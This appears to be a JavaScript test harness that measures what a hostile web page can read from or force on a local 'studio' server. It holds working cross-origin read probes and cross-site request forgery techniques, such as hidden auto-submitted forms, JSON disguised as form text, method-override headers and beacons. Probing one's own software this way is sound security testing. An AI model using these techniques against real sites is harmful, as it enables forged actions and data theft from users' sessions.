// What a page of a stranger can try on a studio, without a click of its user. `reads` come to what the page has
// learned, in words; to nothing where it has learned nothing. `writes` only send; what came of it, others see.
(() => {
  const PATIENCE_MS = 15000;
  // How long to look for what will not come: a window of another origin never says that it has loaded. And how
  // long until a window that was opened must be out of reach.
  const wait = { lookMs: 600, handleMs: 10000 };

  const until = (target, good, bad = ["error"]) =>
    new Promise((learn) => {
      for (const name of good) target.addEventListener(name, () => learn(name), { once: true });
      for (const name of bad) target.addEventListener(name, () => learn(""), { once: true });
    });

  const element = (name, properties, good = ["load"]) => {
    const made = Object.assign(document.createElement(name), properties);
    const learned = until(made, good);
    document.body.append(made);
    return [made, learned];
  };

  const pause = (ms) => new Promise((go) => setTimeout(go, ms));

  const xhr = (method, url, body, headers = {}) =>
    new Promise((learn) => {
      const request = new XMLHttpRequest();
      request.open(method, url);
      request.withCredentials = true;
      for (const [name, value] of Object.entries(headers)) request.setRequestHeader(name, value);
      request.onloadend = () => learn(request.responseText);
      request.send(body);
    });

  // What `look` comes to, if it does in time.
  const within = async (ms, look) => {
    const end = Date.now() + ms;
    let learned = look();
    while (!learned && Date.now() < end) {
      await pause(30);
      learned = look();
    }
    return learned;
  };

  const inWindow = async (url) => {
    const opened = window.open(url);
    const learned = await within(wait.lookMs, () => {
      try {
        if (opened.location.href !== "about:blank") return opened.document.body?.innerText;
      } catch {
        // Of another origin.
      }
      return opened.length && `${opened.length} frames`;
    });
    opened.close();
    return learned;
  };

  const handle = async (url) => {
    const opened = window.open(url);
    return (await within(wait.handleMs, () => opened.closed)) ? "" : "it can be led elsewhere";
  };

  const inFrame = async (tag, key, url) => {
    const [made, loaded] = element(tag, { [key]: url });
    await loaded;
    let learned = "";
    try {
      learned = made.contentDocument?.body?.innerText ?? "";
    } catch {
      // Of another origin.
    }
    return learned || (made.contentWindow?.length ? `${made.contentWindow.length} frames` : "");
  };

  const onCanvas = async (url) => {
    const [image, loaded] = element("img", { crossOrigin: "use-credentials", src: url });
    if (!(await loaded)) return "";
    const canvas = Object.assign(document.createElement("canvas"), { width: 1, height: 1 });
    canvas.getContext("2d").drawImage(image, 0, 0);
    return canvas.toDataURL();
  };

  const reads = {
    "fetch": async (url) => (await fetch(url, { credentials: "include" })).text(),
    "fetch without cookies": async (url) => (await fetch(url, { credentials: "omit" })).text(),
    "fetch of a range": async (url) =>
      (await fetch(url, { credentials: "include", headers: { range: "bytes=0-99" } })).text(),
    "fetch that may not read": async (url) =>
      (await fetch(url, { credentials: "include", mode: "no-cors" })).type,
    "XMLHttpRequest": (url) => xhr("GET", url),
    "image": async (url) => {
      const [image, loaded] = element("img", { src: url });
      return (await loaded) && `${image.naturalWidth} x ${image.naturalHeight}`;
    },
    "image on a canvas": onCanvas,
    "audio": (url) => element("audio", { src: url, preload: "auto" }, ["loadedmetadata"])[1],
    "script": (url) => element("script", { src: url })[1],
    "module": async (url) => `exports: ${Object.keys(await import(url))}`,
    "style sheet": (url) => element("link", { rel: "stylesheet", href: url })[1],
    "preloaded image": (url) => element("link", { rel: "preload", as: "image", href: url })[1],
    "frame": (url) => inFrame("iframe", "src", url),
    "object": (url) => inFrame("object", "data", url),
    "EventSource": (url) => {
      const source = new EventSource(url, { withCredentials: true });
      return until(source, ["open", "message"]).finally(() => source.close());
    },
    "WebSocket": (url) => {
      const socket = new WebSocket(url.replace("http", "ws"));
      return until(socket, ["open", "message"]).finally(() => socket.close());
    },
    "window": inWindow,
    "handle on a window": handle,
    "timing": async (url) => {
      await element("img", { src: url })[1];
      return within(wait.lookMs, () => performance.getEntriesByName(url).find((each) => each.encodedBodySize)?.name);
    },
  };

  const form = async (method, url, fields, enctype) => {
    const name = `frame${Math.random()}`;
    const [, loaded] = element("iframe", { name });
    await loaded;
    const said = { method, action: url, enctype, target: name };
    const made = Object.assign(document.createElement("form"), said);
    for (const [key, value] of Object.entries(fields))
      made.append(Object.assign(document.createElement("input"), { type: "hidden", name: key, value }));
    document.body.append(made);
    const answered = until(document.querySelector(`iframe[name="${name}"]`), ["load"]);
    made.submit();
    await answered;
  };

  // JSON in the disguise of a form's only field: `{"a":1,"=":""}` minus what the form adds.
  const disguised = (body) => ({ [`${body.slice(0, -1)},"ignore":"`]: '"}' });
  const send = async (method, url, options) => {
    const reply = await fetch(url, { method, credentials: "include", ...options });
    return reply.type === "opaque" ? "" : reply.text();
  };

  const writes = {
    "form": (method, url, body) =>
      form("POST", url, { body, _method: method }, "application/x-www-form-urlencoded"),
    "form as text": (method, url, body) => form("POST", url, disguised(body), "text/plain"),
    "form with files": (method, url, body) => form("POST", url, { file: body }, "multipart/form-data"),
    "fetch of text": (method, url, body) => send("POST", url, { mode: "no-cors", body }),
    "fetch of nothing": (method, url) => send("POST", url, { mode: "no-cors" }),
    "fetch of a blob": (method, url, body) => send("POST", url, { mode: "no-cors", body: new Blob([body]) }),
    "fetch of JSON": (method, url, body) =>
      send(method, url, { body, headers: { "content-type": "application/json" } }),
    "fetch with If-Match": (method, url, body) =>
      send(method, url, { body, headers: { "content-type": "application/json", "if-match": "*" } }),
    "fetch by another name": (method, url, body) =>
      send("POST", url, { body, headers: { "x-http-method-override": method } }),
    "XMLHttpRequest": (method, url, body) => xhr(method, url, body, { "content-type": "text/plain" }),
    "beacon": (method, url, body) => void navigator.sendBeacon(url, body),
    "beacon of JSON": (method, url, body) =>
      void navigator.sendBeacon(url, new Blob([body], { type: "application/json" })),
    "reading with an effect": (method, url) =>
      send("GET", `${url}?_method=${method}`, { mode: "no-cors" }),
  };

  const attempt = async (probe, ...given) => {
    const learned = Promise.resolve()
      .then(() => probe(...given))
      .catch(() => "");
    const tired = pause(PATIENCE_MS).then(() => "nobody knows: it did not end");
    return String((await Promise.race([learned, tired])) || "");
  };

  const all = async (probes, targets) => {
    const tried = targets.flatMap((target) =>
      Object.entries(probes).map(async ([name, probe]) => [name, target, await attempt(probe, ...target)]),
    );
    return Promise.all(tried);
  };

  const only = (probes, names) =>
    Object.fromEntries(Object.entries(probes).filter(([name]) => !names || names.includes(name)));

  window.attack = {
    wait,
    names: { reads: Object.keys(reads), writes: Object.keys(writes) },
    read: (urls, names) => all(only(reads, names), urls.map((url) => [url])),
    write: (requests, names) => all(only(writes, names), requests),
  };
})();
